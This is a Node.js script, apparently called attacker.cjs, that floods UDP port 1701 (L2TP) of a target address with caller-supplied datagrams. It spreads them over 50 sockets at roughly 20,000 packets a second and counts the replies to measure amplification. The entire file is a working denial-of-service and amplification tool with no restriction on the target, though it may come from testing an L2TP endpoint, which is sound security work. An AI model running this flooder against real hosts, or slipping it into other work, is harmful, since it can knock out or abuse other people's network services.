"use strict";
/**
 * Sends datagrams to a UDP port of an LCCE, each from one of several sockets, and counts what comes back:
 * node attacker.cjs ADDRESS TIMES <JSON, a list of datagrams in hexadecimal. It prints JSON.
 */
const { createSocket } = require("node:dgram");
const { readFileSync } = require("node:fs");
const { setTimeout: pause } = require("node:timers/promises");

const SOCKETS = 50;
/** As many are sent before the next pause of 1 ms: some 20 000 a second. */
const AT_ONCE = 20;
const LAST_ANSWER_MS = 500;

async function attack(address, times) {
  const datagrams = JSON.parse(readFileSync(0, "utf8")).map((text) => Buffer.from(text, "hex"));
  const count = { sent: 0, sentOctets: 0, answers: 0, answerOctets: 0 };
  const sockets = Array.from({ length: SOCKETS }, () => createSocket("udp4"));
  for (const socket of sockets)
    socket.on("message", ({ length }) => {
      count.answers += 1;
      count.answerOctets += length;
    });
  for (let time = 0; time < times; time += 1)
    for (const datagram of datagrams) {
      sockets[count.sent % SOCKETS].send(datagram, 1701, address);
      count.sent += 1;
      count.sentOctets += datagram.length;
      if (count.sent % AT_ONCE === 0) await pause(1);
    }
  await pause(LAST_ANSWER_MS);
  for (const socket of sockets) socket.close();
  process.stdout.write(JSON.stringify(count));
}

void attack(process.argv[2], Number(process.argv[3]));
